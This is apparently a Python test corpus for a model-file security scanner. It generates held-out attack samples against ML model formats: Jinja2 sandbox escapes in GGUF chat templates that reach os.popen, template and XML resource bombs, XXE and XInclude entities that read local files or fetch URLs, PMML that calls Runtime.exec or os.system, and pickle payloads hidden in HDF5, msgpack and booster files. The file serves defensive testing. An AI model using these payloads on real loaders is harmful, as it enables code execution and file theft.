"""Held-out attacks: boosters, HDF5, MessagePack, GGUF, XML, Arrow; texts and tables."""

# ruff: noqa: E501, E731 (one attack a line)
from __future__ import annotations

import struct
from collections.abc import Iterator

from corpora.unseen_texts import gguf
from corpora.unseen_units import (
    BOMB,
    BROKEN,
    CALL,
    EVIL,
    HIDDEN,
    KERAS,
    OPERATOR,
    OUTSIDE,
    PATH,
    TEMPLATE,
    TOUCH,
    URL,
    Attack,
    written,
)

ODD = BOMB | BROKEN | HIDDEN | OPERATOR
ANY = CALL | HIDDEN | {"model-unexplained-bytes"}
XGB = "import xgboost, numpy; b = xgboost.Booster(model_file=F); b.predict(xgboost.DMatrix(numpy.ones((1, 2)))); b.inplace_predict(numpy.ones((1, 2)))"
LGB = "import lightgbm, numpy; b = lightgbm.Booster(model_file=F); b.predict(numpy.ones((1, 2)))"
CAT = "import catboost, numpy; m = catboost.CatBoost().load_model(F, format=%r); m.predict(numpy.ones((1, 2)))"
FLAX = "import flax.serialization as s; s.msgpack_restore(open(F, 'rb').read())"
CHECKS = "kept: this release checks or survives it; what it says of itself is wrong"


def real() -> Iterator[Attack]:
    cbm, cjson = CAT % "cbm", CAT % "json"
    unpickle = "import h5py, pickle, numpy; h = h5py.File(F); pickle.loads(bytes(%s))"
    read = "import h5py; h = h5py.File(F); print(bytes(h['w'][()]))"
    table = {
        "boosters2/xgboost-far-child": ("a child far behind the tree", XGB, ODD, "bomb"),
        "boosters2/xgboost-negative": ("a child before the tree", XGB, ODD, "bomb"),
        "boosters2/xgboost-far-feature": ("a feature far behind the row", XGB, ODD, "bomb"),
        "boosters2/xgboost-features": ("2^31 features", XGB, ODD, "bomb"),
        "boosters2/xgboost-classes": ("2^30 classes", XGB, ODD, "bomb"),
        "boosters2/xgboost-nodes": ("2^30 nodes, three of them there", XGB, ODD, "bomb"),
        "boosters2/xgboost-short": ("fewer right children than nodes", XGB, ODD, "bomb"),
        "boosters2/xgboost-iterations": ("more iterations than trees", XGB, ODD, "bomb"),
        "boosters2/xgboost-groups": ("trees of a class far behind the last", XGB, ODD, "bomb"),
        "boosters2/xgboost-parallel": ("2^31 parallel trees", XGB, ODD, "bomb"),
        "boosters2/ubjson-length": ("a text of 2^50 letters in UBJSON", XGB, ODD, "bomb"),
        "boosters2/ubjson-nested": ("2,000,000 lists in lists in UBJSON", XGB, ODD, "bomb"),
        "boosters2/ubjson-array": ("a list of 2^44 numbers in UBJSON", XGB, ODD, "bomb"),
        "boosters2/lightgbm-far-child": ("children far behind the tree", LGB, ODD, "bomb"),
        "boosters2/lightgbm-negative": ("leaves far behind the last", LGB, ODD, "bomb"),
        "boosters2/lightgbm-feature": ("a feature far behind the row", LGB, ODD, "bomb"),
        "boosters2/lightgbm-features": ("2^31 features", LGB, ODD, "bomb"),
        "boosters2/lightgbm-classes": ("10^9 classes", LGB, ODD, "bomb"),
        "boosters2/lightgbm-category": ("2 * 10^9 categories", LGB, ODD, "bomb"),
        "boosters2/lightgbm-iteration": ("no tree in an iteration: a division by zero", LGB, ODD, "bomb"),
        "boosters2/lightgbm-categorical": ("the JSON behind the trees has 200,000 brackets", LGB, ODD, "bomb"),
        "boosters2/lightgbm-machines": ("parameters name files to read and to write", None, PATH, "kept: used when training goes on"),
        "boosters2/lightgbm-sizes": ("sizes of trees that are not there", LGB, ODD, "bomb"),
        "boosters2/catboost-length": ("the size of the core is 4 GB", cbm, ODD, "bomb"),
        "boosters2/catboost-tail": ("a pickle behind the model", "import pickle; d = open(F, 'rb').read(); pickle.loads(d[d.rindex(b'\\x80\\x04'):])", ANY),
        "boosters2/catboost-root": ("the flatbuffer's root lies far behind it", cbm, ODD, "bomb"),
        "boosters2/catboost-json-splits": ("a tree of 80 levels", cjson, ODD, "bomb"),
        "boosters2/catboost-json-leaves": ("a tree with fewer leaves than its levels need", cjson, ODD, "bomb"),
        "boosters2/catboost-json-feature": ("a feature far behind the row", cjson, ODD, "bomb"),
        "flax/bytes-pickle": ("a value is a pickle", FLAX.replace("s.msg", "import pickle; pickle.loads(s.msg") + "['opt'])", ANY),
        "flax/extension-pickle": ("a value of an own type is a pickle", "import msgpack, pickle; msgpack.unpackb(open(F, 'rb').read(), ext_hook=lambda c, d: pickle.loads(d))", ANY),
        "flax/trailing": ("a pickle behind the values", "import msgpack, pickle; d = open(F, 'rb').read(); pickle.loads(d[d.rindex(b'\\x80\\x04'):])", ANY),
        "flax/numpy-object": ("an array of objects, as msgpack-numpy writes it", "import msgpack, msgpack_numpy; msgpack.unpackb(open(F, 'rb').read(), object_hook=msgpack_numpy.decode)", ANY),
        "flax/deep": ("3,000,000 lists in lists", FLAX, ODD, CHECKS),
        "flax/shape": ("an array of 2^40 numbers with 16 bytes", FLAX, ODD, CHECKS),
        "flax/chunks": ("chunks of an array of 2^40 numbers", FLAX, ODD, CHECKS),
        "flax/map-count": ("a map of 2^32 keys", FLAX, ODD, CHECKS),
        "flax/orbax-shape": ("an Orbax array of 2^36 numbers, none of them stored", "import tensorstore as t, glob, os; p = os.path.dirname(glob.glob('ck/**/.zarray', recursive=True)[0]); t.open({'driver': 'zarr', 'kvstore': {'driver': 'file', 'path': os.path.abspath(p)}}).result().read().result()", BOMB | BROKEN, "bomb"),
        "hdf5b/void-pickle": ("an opaque value is a pickle", unpickle % "h['model'][()].tobytes()", ANY),
        "hdf5b/attribute-pickle": ("an attribute is a pickle", unpickle % "h.attrs['estimator'].tobytes()", ANY),
        "hdf5b/bytes-pickle": ("a variable-length value is a pickle", unpickle % "h['models'][0].tobytes()", ANY),
        "hdf5b/compressed-pickle": ("a compressed dataset is a pickle", unpickle % "h['blob'][:].tobytes()", ANY),
        "hdf5b/pandas-fixed": ("pandas unpickles a table's objects", "import pandas; pandas.read_hdf(F)", ANY, "kept: the object of the table was made without its payload; the pickle is there"),
        "hdf5b/pandas-attribute": ("pandas' store unpickles what describes a table", "import pandas; s = pandas.HDFStore(F, 'r'); s.get_storer('model').attrs.metadata", ANY),
        "hdf5b/soft-external": ("a soft link to an external link", read, PATH, "kept: absolute path of another file"),
        "hdf5b/deep-external": ("an external link 40 groups down", "import h5py; h = h5py.File(F); print(bytes(h['/'.join(f'g{i}' for i in range(40)) + '/w'][()]))", PATH),
        "hdf5b/virtual-pattern": ("a virtual dataset of an absolute path", read, PATH),
        "hdf5b/external-two": ("the second part of a dataset lies outside", read, PATH),
        "hdf5b/cycle": ("a group is its own child: who walks it never ends", "import h5py\ndef walk(g):\n    for k in g: walk(g[k])\nwalk(h5py.File(F))", ODD, "bomb"),
        "hdf5b/chunk-bomb": ("three datasets of 4 GB of zeros", "import h5py; h = h5py.File(F); x = [h[k][()] for k in h]", BOMB, "bomb"),
        "hdf5b/fill-2d": ("8 TB of fill values", read, BOMB, "bomb"),
        "hdf5b/scale-offset": ("32 GB of fill values under a filter", read, BOMB, "bomb"),
        "hdf5b/pytables-enum": ("PyTables unpickles an attribute of an array", "import tables; t = tables.open_file(F); t.root.x._v_attrs.FLAVOR_PICKLE", ANY),
        "hdf5b/pytables-nested": ("PyTables unpickles a nested object", "import tables; t = tables.open_file(F); t.root.models.m[0]", ANY),
        "hdf5b/keras-variable-text": ("a Lambda in a configuration of variable length", "import h5py, json; c = json.loads(h5py.File(F).attrs['model_config']); print(c)", KERAS, "kept: its code is empty; Keras would unmarshal it"),
        "hdf5b/keras-external-weights": ("a Keras layer's weight is an external link", "import h5py; print(bytes(h5py.File(F)['layers/dense/vars/0'][()]))", PATH),
        "hdf5b/anndata": ("an unstructured value of AnnData is a pickle", unpickle % "h['uns/model'][()].tobytes()", ANY),
    }  # fmt: skip
    for what, (does, load, rules, *proof) in table.items():
        yield Attack(
            what,
            what.partition("/")[0],
            written(what),
            what.partition("/")[0],
            load or "",
            does,
            rules,
            "main",
            *(proof or ["mark"]),
        )


def ggufs() -> Iterator[Attack]:
    load = "import gguf, jinja2\nr = gguf.GGUFReader(F)\nt = r.fields['tokenizer.chat_template'].contents()\njinja2.Environment().from_string(t).render(messages=[{'role': 'user', 'content': 'hi'}])"
    safe = load.replace("jinja2.Environment()", "__import__('jinja2.sandbox').sandbox.ImmutableSandboxedEnvironment()")
    run = f"popen('{TOUCH}').read()"
    template = {
        "sort": "{%% set g = ([{'a': lipsum}]|map(attribute='a.__globals__')|list)[0] %%}{{ g['os'].%s }}",
        "groupby": "{%% for k, v in [lipsum]|groupby('__globals__.os') %%}{{ k.%s }}{%% endfor %%}",
        "selectattr": "{%% for f in [lipsum]|selectattr('__globals__.os') %%}{{ f|attr('__glo'~'bals__')|attr('get')('os')|attr('popen')('touch /tmp/MARK')|attr('read')() }}{%% endfor %%}",
        "sum": "{{ ([lipsum]|sum(attribute='__globals__', start={}) if false else '') }}{{ (cycler|attr('__init__'))|attr(['__globals', '__']|join)|attr('get')('os')|attr('popen')('touch /tmp/MARK')|attr('read')() }}",
        "call-block": "{%% macro w() %%}{{ caller.__globals__.os if caller else '' }}{%% endmacro %%}{%% call w() %%}{%% endcall %%}{{ (joiner|attr('\\137\\137init\\137\\137'))|attr('\\137\\137globals\\137\\137')|attr('get')('os')|attr('popen')('touch /tmp/MARK')|attr('read')() }}",
        "import": "{%% import 'x' as y %%}{{ y }}",
        "include": "{%% include ['/etc/passwd', '../../../../outside/canary.txt'] ignore missing %%}{{ namespace.__init__.__globals__.os.%s }}",
        "filter-block": "{%% filter upper %%}{{ dict.__base__.__subclasses__() }}{%% endfilter %%}{{ lipsum.__globals__['o' 's'].%s }}",
        "unicode": "{{ lipsum['\\u005f\\u005fglobals\\u005f\\u005f']['os'].%s }}",
        "in-comment": "{#- {{ x }} -#}{{- self._TemplateReference__context.parent.cycler.__init__.__globals__.os.%s -}}",
        "set-block": "{%% set k %%}__globals__{%% endset %%}{{ lipsum[k|string]['os'].%s }}",
        "environment": "{{ self._TemplateReference__context.environment.__class__.__init__.__globals__['os'].%s if 0 else lipsum.__globals__.os.%s }}",
    }  # fmt: skip
    slow = {
        "center": "{{ 'x'|center(100000000000) }}",
        "percent": "{{ '%%99999999999d'|format(1) }}",
        "power": "{{ (10 ** (10 ** 9)) * 0 }}",
        "list-multiply": "{{ ([0] * 10000000000)|length }}",
        "indent": "{{ 'a\\nb'|indent(50000000000) }}",
        "replace": "{%% set ns = namespace(s='aa') %%}{%% for i in range(40) %%}{%% set ns.s = ns.s|replace('a', 'aa') %%}{%% endfor %%}",
        "join": "{%% set ns = namespace(s=['a']) %%}{%% for i in range(60) %%}{%% set ns.s = ns.s + ns.s %%}{%% endfor %%}",
        "macro": "{%% macro f(n) %%}{%% if n %%}{{ f(n - 1) }}{{ f(n - 1) }}{%% endif %%}{%% endmacro %%}{{ f(60) }}",
        "ranges": "{%% for i in range(99999) %%}{%% for j in range(99999) %%}{%% endfor %%}{%% endfor %%}",
        "lipsum": "{{ lipsum(n=1000000, max=100000) }}",
        "ljust": "{{ 'x'.ljust(100000000000) }}",
        "batch": "{{ [1]|batch(10000000000, 0)|list|length }}",
    }  # fmt: skip
    for what, text in template.items():
        text = (text.replace("%%", "%").replace("%s", run)) if "%s" in text else text.replace("%%", "%")
        yield Attack(
            f"gguf2/{what}",
            "gguf2",
            {"m.gguf": gguf(("general.architecture", "llama"), ("tokenizer.chat_template", text))},
            "loaders that render with jinja2.Environment",
            load,
            f"the chat template leaves its sandbox: {what}",
            TEMPLATE,
            "main",
            "kept: needs a loader of templates" if what == "import" else "mark",
        )
    for what, text in slow.items():
        yield Attack(
            f"gguf2/slow-{what}",
            "gguf2",
            {"m.gguf": gguf(("general.architecture", "llama"), ("tokenizer.chat_template", text.replace("%%", "%")))},
            "jinja2's sandbox",
            safe,
            f"the chat template takes all time or memory: {what}",
            TEMPLATE | BOMB,
            "main",
            "bomb",
        )
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, 1)
    key = lambda k: struct.pack("<Q", len(k)) + k
    tensor = lambda dims, kind=0, offset=0: (
        struct.pack("<Q", 1)
        + b"w"
        + struct.pack("<I", len(dims))
        + struct.pack(f"<{len(dims)}QIQ", *dims, kind, offset)
    )
    arch = key(b"general.architecture") + struct.pack("<I", 8) + key(b"llama")
    read = "import gguf; r = gguf.GGUFReader(F); [t.data.copy() for t in r.tensors]; [f.contents() for f in r.fields.values()]"
    shapes = {
        "array-count": ("an array of 2^60 numbers", head + key(b"a") + struct.pack("<IIQ", 9, 4, 1 << 60)),
        "array-nested": ("100,000 arrays in arrays", head + key(b"a") + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 100_000),
        "text-length": ("a text of 2^62 letters", head + key(b"a") + struct.pack("<IQ", 8, 1 << 62)),
        "key-count": ("2^61 keys", b"GGUF" + struct.pack("<IQQ", 3, 0, 1 << 61) + arch),
        "tensor-count": ("2^61 tensors", b"GGUF" + struct.pack("<IQQ", 3, 1 << 61, 1) + arch),
        "dims-overflow": ("sizes that multiply to 2^64 + 32", head + arch + tensor((1 << 32, (1 << 32) + 1)) + b"\0" * 64),
        "offset-overflow": ("a tensor that begins before the file", head + arch + tensor((4,), 0, (1 << 64) - 64) + b"\0" * 64),
        "many-dimensions": ("a tensor of 4 * 10^9 dimensions", head + arch + struct.pack("<Q", 1) + b"w" + struct.pack("<I", 0xFFFFFFFF)),
        "unknown-type": ("a tensor of an unknown type", head + arch + tensor((4,), 9999) + b"\0" * 64),
        "alignment": ("an alignment of 0", b"GGUF" + struct.pack("<IQQ", 3, 1, 2) + arch + key(b"general.alignment") + struct.pack("<II", 4, 0) + tensor((4,)) + b"\0" * 64),
        "overlap": ("two tensors in one place", b"GGUF" + struct.pack("<IQQ", 3, 2, 1) + arch + tensor((4,)) + tensor((4,)).replace(b"w", b"v") + b"\0" * 64),
        "pickle-behind": ("a pickle behind the tensors", head + arch + (tensor((8,)) + b"\0" * 63)[:36].ljust(57, b"\0")[:36] + b"\0" * (32 - (len(head + arch) + 36) % 32) + b"\0" * 32 + EVIL),
    }  # fmt: skip
    for what, (does, data) in shapes.items():
        if what == "pickle-behind":
            yield Attack(
                f"gguf2/{what}",
                "gguf2",
                {"m.gguf": data},
                "a loader that reads on",
                "import pickle; d = open(F, 'rb').read(); pickle.loads(d[d.rindex(b'\\x80\\x04'):])",
                does,
                ANY | BROKEN,
            )
        else:
            yield Attack(
                f"gguf2/{what}",
                "gguf2",
                {"m.gguf": data},
                "gguf 0.19, llama.cpp before b3262 (CVE-2024-21802 and others)",
                read,
                does,
                ODD | {"model-container-tampered"},
                "main",
                "kept: the reader in C++ had memory errors there; that of Python checks",
            )


def xmls() -> Iterator[Attack]:
    load = "from lxml import etree; p = etree.XMLParser(resolve_entities=True, load_dtd=True, huge_tree=True, no_network=False); t = etree.parse(F, p); print(etree.tostring(t)[:4000])"
    rules = PATH | BOMB | BROKEN | OPERATOR | CALL
    pmml = lambda inside, head="": (
        f'<?xml version="1.0"?>{head}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/>{inside}</PMML>'.encode()
    )
    entity = lambda enc: (
        f'<?xml version="1.0" encoding="{enc}"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file://{OUTSIDE}/canary.txt">]><PMML version="4.4">&x;</PMML>'
    )
    calls = '<TransformationDictionary><DefineFunction name="f" optype="continuous" dataType="double"><ParameterField name="x"/><Apply function="f"><FieldRef field="x"/></Apply></DefineFunction></TransformationDictionary>'
    regex = '<TransformationDictionary><DerivedField name="d" optype="categorical" dataType="boolean"><Apply function="matches"><Constant>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!</Constant><Constant>(a+)+$</Constant></Apply></DerivedField></TransformationDictionary>'
    java = '<Extension name="class" value="javax.script.ScriptEngineManager"/><TransformationDictionary><DerivedField name="d" optype="continuous" dataType="double"><Apply function="java.lang.Runtime.exec"><Constant>touch /tmp/MARK</Constant></Apply></DerivedField></TransformationDictionary>'
    script = '<Extension extender="SPSS" name="script"><![CDATA[import os; os.system("touch /tmp/MARK")]]></Extension><MiningModel functionName="regression"><Extension name="script" value="x"/></MiningModel>'
    table = {
        "doctype-address": ("the document type is fetched from an address", pmml("", f'<!DOCTYPE PMML SYSTEM "{URL}">'), "mark"),
        "parameter-entity": ("a parameter entity fetches more of the document type", pmml("", f'<!DOCTYPE PMML [<!ENTITY % p SYSTEM "{URL}"> %p;]>'), "mark"),
        "public-identifier": ("an external entity with a public identifier", pmml("<Extension>&x;</Extension>", f'<!DOCTYPE PMML [<!ENTITY x PUBLIC "a" "file://{OUTSIDE}/canary.txt">]>'), "mark"),
        "utf-32": ("an external entity in UTF-32", entity("UTF-32").encode("utf-32"), "kept: expat and libxml2 differ in what they read"),
        "ebcdic": ("an external entity in EBCDIC", entity("cp037").encode("cp037"), "kept: Java's readers take it"),
        "utf-7": ("an external entity in UTF-7", entity("UTF-7").replace("<!DOCTYPE", "+ADwAIQ-DOCTYPE").encode("latin-1"), "kept: some readers take it"),
        "quadratic": ("one long entity, 100,000 times", pmml("<Extension>" + "&x;" * 100_000 + "</Extension>", '<!DOCTYPE PMML [<!ENTITY x "' + "A" * 20_000 + '">]>'), "bomb"),
        "deep": ("500,000 elements in each other", pmml("<Extension>" * 500_000), "kept: lxml limits it; readers that recurse do not"),
        "stylesheet": ("a stylesheet of an address", b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="' + URL.encode() + b'"?><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/></PMML>', "kept: viewers fetch and run it"),
        "self-function": ("a function calls itself", pmml(calls), "kept: evaluators in Java recurse"),
        "regular-expression": ("a regular expression that never ends", pmml(regex), "kept: evaluators in Java and Python evaluate it for each row"),
        "java-function": ("a function is a method of Java's runtime", pmml(java), "kept: JPMML makes functions by their class name"),
        "script": ("a script in an extension", pmml(script), "kept: engines of that vendor run it"),
        "attribute-entity": ("the entity is in an attribute's default", pmml("", f'<!DOCTYPE PMML [<!ENTITY x SYSTEM "file://{OUTSIDE}/canary.txt"><!ATTLIST Header description CDATA "a">]>').replace(b"<Header/>", b"<Header>&x;</Header>"), "mark"),
        "xinclude-old": ("XInclude of a file, with a fallback", b'<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///tmp/outside/canary.txt" parse="text"><i:fallback/></i:include></PMML>', "mark"),
    }  # fmt: skip
    for what, (does, data, proof) in table.items():
        use = load.replace("print(", "t.xinclude(); print(") if what == "xinclude-old" else load
        yield Attack(
            f"xml2/{what}",
            "xml2",
            {"m.pmml": data},
            "lxml with entities, as PMML tools on Java's defaults",
            use,
            does,
            rules | {"model-config-remote-code"},
            "main",
            proof,
        )


def attacks() -> Iterator[Attack]:
    yield from real()
    yield from ggufs()
    yield from xmls()
